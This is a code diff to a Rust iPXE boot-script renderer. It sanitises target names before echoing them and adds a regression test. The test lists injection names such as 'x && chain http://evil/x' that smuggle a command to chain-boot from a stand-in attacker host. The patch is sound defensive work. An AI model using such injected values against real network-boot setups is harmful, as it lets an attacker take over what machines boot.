@@ -80,6 +80,20 @@ fn cmdline_safe(s: &str) -> bool {
             .all(|c| c.is_ascii_alphanumeric() || ".:-_/@=+,".contains(c))
 }
 
+/// `text` as an `echo` argument iPXE shows as it is: iPXE expands `${…}` and runs `&&`, `||`
+/// and `#` on every script line, with no quoting, so anything outside a plain set becomes `?`.
+fn shown(text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || " .:-_/@=+,()[]'".contains(c) {
+                c
+            } else {
+                '?'
+            }
+        })
+        .collect()
+}
+
 /// Renders the script for `mac`.
 pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
     let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
@@ -102,7 +116,7 @@ pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
              echo nhn: {} ({mac}) has no boot volume; assign one, then reboot it.\n\
              sleep 10\n\
              exit 1\n",
-            t.name.replace(['\n', '\r'], " ")
+            shown(&t.name)
         );
     };
     let secrets = match &s.secrets {
@@ -115,8 +129,8 @@ pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
                  echo nhn: {} ({mac}): {}\n\
                  sleep 10\n\
                  exit 1\n",
-                t.name.replace(['\n', '\r'], " "),
-                why.replace(['\n', '\r'], " ")
+                shown(&t.name),
+                shown(why)
             );
         }
     };
@@ -133,7 +147,7 @@ pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
          kernel {base}/boot/{kernel} initrd={initrd_name} {cmdline} BOOTIF={bootif} nhn.mode=boot nhn.root={root} nhn.initiator={initiator}{storage}{secrets}\n\
          initrd {base}/boot/{initrd}\n\
          boot\n",
-        name = t.name.replace(['\n', '\r'], " "),
+        name = shown(&t.name),
         kernel = s.kernel,
         initrd = s.initrd,
         cmdline = s.cmdline,
@@ -143,6 +157,48 @@ pub fn render(mac: &Mac, target: Option<&Target>, s: &Settings) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn hostile_names_cannot_chain_or_expand_in_the_script() {
+        let mac: Mac = "52:54:00:12:34:56".parse().unwrap();
+        for name in [
+            "x && chain http://evil/x",
+            "x || shell",
+            "${net0/ip} ${root-path}",
+            "x # comment\nchain http://evil/",
+            "quote\" `back` ; semi \\ back",
+        ] {
+            let t = Target {
+                name: name.into(),
+                ..server2()
+            };
+            for target in [
+                Some(&t),
+                Some(&Target {
+                    iscsi: None,
+                    ..t.clone()
+                }),
+            ] {
+                let script = render(&mac, target, &settings());
+                for line in script.lines().filter(|l| l.starts_with("echo ")) {
+                    assert!(
+                        !line.contains(['&', '|', '$', '#']),
+                        "{name:?} breaks out: {line}"
+                    );
+                }
+                for line in script.lines() {
+                    let command = line.split(' ').next().unwrap_or_default();
+                    assert!(
+                        [
+                            "#!ipxe", "echo", "kernel", "initrd", "boot", "sleep", "exit"
+                        ]
+                        .contains(&command),
+                        "{name:?}: a line of its own: {line}"
+                    );
+                }
+            }
+        }
+    }
 
     fn settings() -> Settings {
         Settings {
